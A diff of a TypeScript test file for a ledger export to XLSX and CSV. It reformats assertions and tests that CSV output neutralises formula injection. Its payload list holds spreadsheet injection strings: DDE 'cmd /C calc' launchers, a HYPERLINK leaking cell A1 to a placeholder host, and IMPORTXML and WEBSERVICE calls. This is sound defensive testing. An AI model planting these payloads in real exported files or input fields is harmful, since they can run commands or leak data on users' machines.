@@ -45,7 +45,14 @@ describe('the exported workbook', () => {
     const [ledger, meta] = workbook.sheets
     expect(ledger?.rows[0]?.[1]).toBe('2026年度重点工作台账')
     expect(ledger?.merges).toContainEqual({ startRow: 0, startCol: 1, endRow: 0, endCol: 5 })
-    expect(ledger?.pageSetup).toMatchObject({ paperSize: 'a3', orientation: 'landscape', fitToPage: true, fitToWidth: 1, fitToHeight: 0, printTitlesRow: '$3:$3' })
+    expect(ledger?.pageSetup).toMatchObject({
+      paperSize: 'a3',
+      orientation: 'landscape',
+      fitToPage: true,
+      fitToWidth: 1,
+      fitToHeight: 0,
+      printTitlesRow: '$3:$3',
+    })
     expect(ledger?.freezePane).toEqual({ rows: 3, columns: 3 })
     expect(ledger?.autoFilter?.range).toBe('A3:F4')
     expect(ledger?.headerFooter?.oddFooter).toContain('&P')
@@ -57,7 +64,10 @@ describe('the exported workbook', () => {
   it('shows formulas and markup as text, lights as colour and word, figures with their decimals', async () => {
     const workbook = await readXlsx(await writeLedgerXlsx(sheet), { readStyles: true })
     const cells = workbook.sheets[0]?.cells
-    expect(cells?.get('3,2')).toMatchObject({ type: 'string', style: { numFmt: '@', alignment: { wrapText: true, indent: 1 } } })
+    expect(cells?.get('3,2')).toMatchObject({
+      type: 'string',
+      style: { numFmt: '@', alignment: { wrapText: true, indent: 1 } },
+    })
     expect(cells?.get('3,2')?.formula).toBeUndefined()
     expect(cells?.get('3,1')).toMatchObject({ value: '■ 逾期', style: { fill: { fgColor: { rgb: 'C00000' } } } })
     expect(cells?.get('3,3')).toMatchObject({ value: 57.05, style: { numFmt: '0.000' } })
@@ -72,20 +82,49 @@ describe('the exported workbook', () => {
 })
 
 const PAYLOADS = [
-  '=1+1', '=cmd|\' /C calc\'!A0', '+1+1', '+cmd|\' /C calc\'!A0', '-1+1', '-2+3+cmd|\' /C calc\'!D2', '@SUM(1+1)*cmd|\' /C calc\'!A0',
-  '=HYPERLINK("http://x?"&A1,"点我")', '=IMPORTXML("http://x","//a")', '=WEBSERVICE("http://x")', '=DDE("cmd";"/C calc";"x")',
-  '|calc', '%0A-3+3+cmd|\' /C calc\'!D2', '\t=1+1', '\r=1+1', '\n=1+1', '\0=1+1', ' =1+1', '　=1+1', '"=1+1', "'=1+1", '“=1+1', '＝1+1',
-  '＋1+1', '－1+1', '＠SUM(1)', '\u200b=1+1', '\ufeff=1+1', '\u00ad=1+1', '\u202e=1+1', '﹦1+1', '``=1+1', '=\u0000cmd', '@@x', '--1',
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  "+cmd|' /C calc'!A0",
+  '-1+1',
+  "-2+3+cmd|' /C calc'!D2",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '=HYPERLINK("http://x?"&A1,"点我")',
+  '=IMPORTXML("http://x","//a")',
+  '=WEBSERVICE("http://x")',
+  '=DDE("cmd";"/C calc";"x")',
+  '|calc',
+  "%0A-3+3+cmd|' /C calc'!D2",
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\0=1+1',
+  ' =1+1',
+  '　=1+1',
+  '"=1+1',
+  "'=1+1",
+  '“=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  '\u200b=1+1',
+  '\ufeff=1+1',
+  '\u00ad=1+1',
+  '\u202e=1+1',
+  '﹦1+1',
+  '``=1+1',
+  '=\u0000cmd',
+  '@@x',
+  '--1',
 ]
 
 describe('the exported CSV', () => {
   it('lets none of the known payloads stand as a formula', () => {
     expect(PAYLOADS.length).toBeGreaterThanOrEqual(26)
-    for (const payload of PAYLOADS) {
-      expect(isFormulaLike(payload), JSON.stringify(payload)).toBe(true)
-      expect(guarded(payload).startsWith("'")).toBe(true)
-      expect(unguarded(guarded(payload))).toBe(payload)
-    }
+    expect(PAYLOADS.filter((payload) => !isFormulaLike(payload))).toEqual([])
+    expect(PAYLOADS.filter((payload) => !guarded(payload).startsWith("'"))).toEqual([])
+    expect(PAYLOADS.map((payload) => unguarded(guarded(payload)))).toEqual(PAYLOADS)
   })
 
   it('leaves plain numbers and ordinary text alone, and reads back exactly what was written', () => {
@@ -98,8 +137,11 @@ describe('the exported CSV', () => {
   })
 
   it('opens as UTF-8 in a spreadsheet', async () => {
-    const bytes = writeCsv([['事项', '牵头单位'], ['修路', '县交通运输局']])
-    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
+    const bytes = writeCsv([
+      ['事项', '牵头单位'],
+      ['修路', '县交通运输局'],
+    ])
+    expect(bytes.slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]))
     const read = await readWorkbook('a.csv', bytes)
     expect(read.ok && read.value.encoding).toBe('utf-8')
   })
